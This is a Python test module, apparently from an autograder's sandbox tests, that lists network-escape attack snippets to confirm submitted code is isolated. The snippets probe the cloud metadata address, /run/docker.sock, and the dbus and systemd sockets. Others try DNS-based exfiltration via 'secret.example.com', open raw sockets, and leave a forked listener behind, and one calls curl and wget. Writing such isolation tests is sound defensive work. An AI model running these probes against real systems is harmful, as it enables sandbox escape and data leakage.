"""Reaching anybody: the instructor's machine, the local net, the world, and processes beside it."""

from tests.autograde.attacks.attack import Attack

_SOCKET = "import socket\nsocket.setdefaulttimeout(0.3)\n"


def _reach(name: str, tries: str, code: str) -> Attack:
    return Attack(name, tries, _SOCKET + code)


ATTACKS = [
    _reach("tcp", "opens a TCP connection to the machine and to the world", """
for place in (("127.0.0.1", PORT), ("1.1.1.1", 443), ("10.0.0.1", 22), ("169.254.169.254", 80)):
    attempt(socket.create_connection, place, 0.3)"""),
    _reach("udp", "sends UDP packets", """
def send(place):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"answer", place)
attempt(send, ("8.8.8.8", 53)); attempt(send, ("255.255.255.255", 9))"""),
    _reach("dns", "looks up a name that would carry what it found", """
attempt(socket.getaddrinfo, "secret.example.com", 80)"""),
    _reach("ipv6", "opens a TCP connection over IPv6", """
def connect(place):
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(0.3)
        return sock.connect(place)
attempt(connect, ("::1", PORT)); attempt(connect, ("2606:4700:4700::1111", 443))"""),
    _reach("unix_sockets", "connects to sockets of this machine, in the file system and abstract", """
def connect(name):
    with socket.socket(socket.AF_UNIX) as sock: return sock.connect(name)
for name in ("\\0" + ABSTRACT, "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             "\\0/tmp/.X11-unix/X0"):
    attempt(connect, name)"""),
    _reach("odd_sockets", "opens sockets that no network namespace confines, and raw ones", """
for family, kind, number in ((40, 1, 0), (38, 5, 0), (17, 3, 3), (2, 3, 1), (16, 3, 9), (31, 5, 3), (29, 3, 1)):
    if family in (40, 38, 17, 31, 29) or kind == 3 and family == 2:
        attempt(socket.socket, family, kind, number)"""),
    _reach("listens", "listens, and finds an earlier submission that still does", """
def connect():
    with socket.socket(socket.AF_UNIX) as sock: return sock.connect("\\0rendezvous")
attempt(connect)
kept = socket.socket(socket.AF_UNIX); kept.bind("\\0rendezvous"); kept.listen()
other = socket.create_server(("127.0.0.1", 4747))
if os.fork() == 0:
    import time
    time.sleep(300)"""),
    _reach("listens_again", "the same attack once more, to find what the first one has left", """
def connect():
    with socket.socket(socket.AF_UNIX) as sock: return sock.connect("\\0rendezvous")
attempt(connect); attempt(socket.create_connection, ("127.0.0.1", 4747), 0.3)"""),
    _reach("programs", "lets curl, wget and ssh do it", """
for command in ("curl -m 1 http://127.0.0.1:%d" % PORT, "wget -T 1 -O- http://127.0.0.1:%d" % PORT):
    if os.system(command + " >/dev/null 2>&1") == 0: leak(command)"""),
]  # fmt: skip
